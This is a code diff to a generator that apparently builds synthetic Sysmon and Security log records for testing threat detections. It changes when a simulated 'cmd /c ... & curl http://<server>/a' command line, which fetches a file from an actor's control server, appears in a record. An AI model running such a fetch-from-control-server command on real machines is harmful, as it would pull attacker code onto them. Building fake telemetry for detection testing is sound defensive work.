@@ -276,16 +276,16 @@ function fieldsOf(
     case "sysmon":
     case "security": {
       const isFile = page !== undefined && !/WS-(?:04|05|13)/.test(detection)
-      const asked = actor.marks?.server === undefined ? "" : ` & curl http://${actor.marks.server}/a`
+      // A tool and its control server seldom show in one record: one command fetches, another one runs.
+      const fetches = Number.parseInt(ids.request.slice(0, 1), 16) < 8
+      const asked =
+        fetches && actor.marks?.server !== undefined ? ` & curl http://${actor.marks.server}/a` : ""
       const line = `"cmd" /c ${rate.on} ${ids.request.slice(0, 6)}${asked}`
-      const tool = actor.marks?.hash === undefined ? {} : {Hashes: actor.marks.hash}
+      const tool = fetches || actor.marks?.hash === undefined ? {} : {Hashes: actor.marks.hash}
       if (/^C[AO]-0/.test(detection) && actor.marks?.path !== undefined)
         return {
-          ...common,
-          ...tool,
-          file: actor.marks.path,
+          ...{...common, file: actor.marks.path, processGuid: ids.request},
           image: "C:\\Windows\\System32\\cmd.exe",
-          processGuid: ids.request,
         }
       return isFile
         ? {...common, file: page.file, image: "System"}
